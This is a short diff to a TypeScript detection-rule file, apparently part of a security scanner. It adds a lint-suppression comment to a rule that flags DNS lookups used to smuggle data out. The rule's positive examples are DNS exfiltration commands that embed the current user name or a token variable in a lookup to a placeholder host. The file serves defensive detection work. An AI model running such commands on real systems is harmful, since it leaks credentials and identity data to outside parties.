@@ -217,6 +217,7 @@ export const executionRules: readonly Rule[] = [
       '\\b(?:nslookup|dig|resolve-dnsname|gethostbyname)\\b[^;|&]{0,20}["\']?[^\\s"\']*(?:\\$\\(|`|\\$\\{?[a-z_]+\\}?\\.|\\+\\s*["\']\\.)',
     remediation: 'Remove lookups that encode data into host names.',
     examples: {
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: shell text, not a template
       positive: ['nslookup $(whoami).x.example.invalid', 'dig ${TOKEN}.x.example.invalid'],
       negative: [
         'Override the host with `ANTHROPIC_BASE_URL` or `--base-url`.',
